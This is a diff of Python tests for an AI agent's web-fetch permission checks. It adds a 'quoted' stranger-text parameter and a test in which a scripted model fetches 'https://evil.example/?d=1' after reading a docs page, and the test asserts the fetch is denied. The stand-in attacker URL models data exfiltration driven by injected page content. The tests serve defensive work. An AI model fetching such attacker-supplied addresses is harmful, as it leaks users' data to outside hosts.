@@ -29,13 +29,14 @@ IDS: dict[Role, str] = {"owner": "1", "user": "2", "guest": "3"}
 PERSONAL, COMMON = ("canary-user", "canary-memory"), ("canary-soul", "canary-agents")
 
 
-def said(text: str, role: Role, *, direct: bool = False, who: str = "") -> InboundMessage:
-    return InboundMessage(HERE if direct else GROUP, Sender(who or IDS[role], role=role), text, direct=direct)
+def said(text: str, role: Role, *, direct: bool = False, who: str = "", quoted: str = "") -> InboundMessage:
+    sender = Sender(who or IDS[role], role=role)
+    return InboundMessage(HERE if direct else GROUP, sender, text, direct=direct, context=quoted)
 
 
-async def ask(box: Box, text: str, role: Role, *, direct: bool = False) -> str:
+async def ask(box: Box, text: str, role: Role, *, direct: bool = False, quoted: str = "") -> str:
     async with asyncio.timeout(120):
-        return (await box.loop.process(said(text, role, direct=direct))).text
+        return (await box.loop.process(said(text, role, direct=direct, quoted=quoted))).text
 
 
 def all_of(request: Request) -> str:
@@ -229,12 +230,22 @@ async def test_a_made_up_address_is_asked_for_by_its_host_and_a_named_one_is_not
     provider = ScriptedProvider([*(Call("web_fetch", {"url": url}) for url in urls), "done", "done"])
     async with agent(provider, tool) as box:
         asked = Asked(box, "host", "no")
-        await ask(box, "read named.example/a", "owner")
+        await ask(box, "read named.example/a", "owner", quoted="what a stranger wrote")
         assert outcomes(box) == ["ran", "ran", "ran", "denied"]
         asked.close()
     assert "Address: https://evil.example/?d=1" in asked.details[0]
     assert "made it up" in asked.details[0]
     assert [call.url for call in tool.calls] == urls[:3]
+
+
+async def test_an_address_that_nobody_named_is_read_unasked_while_every_word_is_the_owners() -> None:
+    tool = Reaching("web_fetch")
+    tool.own_words = False  # type: ignore[misc]  # what it brings is from outside
+    urls = ["https://docs.example/start", "https://evil.example/?d=1"]
+    provider = ScriptedProvider([*(Call("web_fetch", {"url": url}) for url in urls), "done"])
+    async with agent(provider, tool) as box:
+        await ask(box, "how do I start?", "owner")
+        assert outcomes(box) == ["ran", "denied"], "what the first page says may have made up the second"
 
 
 async def test_a_made_up_name_that_leads_into_the_own_network_is_asked_for_once_and_refused() -> None:
@@ -247,7 +258,7 @@ async def test_a_made_up_name_that_leads_into_the_own_network_is_asked_for_once_
         calls = (Call("web_fetch", {"url": made}), Call("web_fetch", {"urls": [named, made]}))
         async with agent(ScriptedProvider([*calls, "done"]), fetch) as box:
             asked = Asked(box, "once", "once", "once")
-            await ask(box, f"read {named}", "owner")
+            await ask(box, f"read {named}", "owner", quoted="what a stranger wrote")
             results = [event.result for event in box.of(ToolFinished) if isinstance(event, ToolFinished)]
             asked.close()
         assert site.paths == ["/"]
@@ -271,7 +282,7 @@ async def test_what_a_model_wrote_adds_no_line_to_a_question_and_what_is_cut_of_
     )
     async with agent(ScriptedProvider([*calls, "done"]), *tools) as box:
         asked = Asked(box, "no", "no", "no")
-        await ask(box, "do it", "owner")
+        await ask(box, "do it", "owner", quoted="what a stranger wrote")
         asked.close()
     for detail in asked.details:
         assert sum("Reason:" in line for line in detail.splitlines() if line.startswith("Reason:")) == 1
